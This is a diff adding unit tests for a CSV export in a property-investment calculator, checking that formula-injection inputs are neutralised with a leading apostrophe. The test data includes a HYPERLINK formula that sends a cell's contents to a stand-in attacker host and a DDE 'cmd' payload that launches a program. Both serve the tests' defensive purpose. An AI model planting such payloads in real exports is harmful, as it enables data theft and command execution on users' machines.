@@ -150,4 +150,69 @@ describe('CSV export', () => {
     expect(csv).toContain('"Inputs","Property Name","The ""Maple"" Plaza"');
     expect(csv).toContain('"Joe\'s ""Best"" Coffee, LLC","1,800"');
   });
+
+  // Each attack string of issue 10 item 2 (and a tab, a carriage return and a leading minus), with
+  // the cell written for it as the project name (trimmed by the export) and as a tenant name.
+  const ATTACKS: [string, string, string][] = [
+    [
+      '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`,
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`,
+    ],
+    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`, `"'=cmd|' /C calc'!A0"`],
+    ['+1+1', `"'+1+1"`, `"'+1+1"`],
+    ['@SUM(1)', `"'@SUM(1)"`, `"'@SUM(1)"`],
+    ['-1+1', `"'-1+1"`, `"'-1+1"`],
+    ['\t=1+1', `"'=1+1"`, `"'\t=1+1"`],
+    ['\r=1+1', `"'=1+1"`, `"'\r=1+1"`],
+  ];
+
+  it.each(ATTACKS)(
+    'neutralises %j as the project name and as a tenant name',
+    (attack, nameCell, tenantCell) => {
+      const values = retailRentRoll();
+      values.name = attack;
+      values.tenantLeases[1] = { ...values.tenantLeases[1]!, tenantName: attack };
+      const lines = csvOf(values).split('\r\n');
+      expect(lines[1]).toBe(`"Inputs","Property Name",${nameCell}`);
+      const rentRoll = lines.indexOf('"Rent Roll"');
+      expect(lines[rentRoll + 3]).toBe(
+        `${tenantCell},"3,200","$32.50","120","6","$80,000","2.50%","2024-06-01","2034-05-31","$104,000","$98,800","7.52 years"`,
+      );
+    },
+  );
+
+  it('neutralises the address, city, state, zip code and property type', () => {
+    const values = officeDeal();
+    values.address = '=1+1';
+    values.city = '+SUM(A1:A9)';
+    values.state = '@A1';
+    values.zipCode = '-2+3';
+    values.propertyType = "=cmd|' /C calc'!A0";
+    expect(csvOf(values).split('\r\n').slice(2, 7)).toEqual([
+      `"Inputs","Address","'=1+1"`,
+      `"Inputs","City","'+SUM(A1:A9)"`,
+      `"Inputs","State","'@A1"`,
+      `"Inputs","Zip Code","'-2+3"`,
+      `"Inputs","Property Type","'=cmd|' /C calc'!A0"`,
+    ]);
+  });
+
+  it('keeps negative figures as numbers (a negative cash flow, IRR, multiple and appreciation)', () => {
+    const values = { ...officeDeal(), propertyTaxes: 200_000, appreciationRate: -4, downPaymentPercent: 10 };
+    const lines = csvOf(values).split('\r\n');
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        '"Inputs","Appreciation Rate","-4.00%"',
+        '"Results","Cash-on-Cash Return","-50.52%"',
+        '"Results","IRR","-35.51%"',
+        '"Results","Annual Cash Flow","-$126,306"',
+        '"Results","Equity Multiple","-1.13x"',
+        '"1","$56,000","$182,306","-$126,306","-$126,306"',
+        '"5","$63,028","$182,306","-$119,277","-$614,218"',
+        '"5","$652,298","-18.46%"',
+      ]),
+    );
+    expect(lines.filter((line) => line.includes("'"))).toEqual([]);
+  });
 });
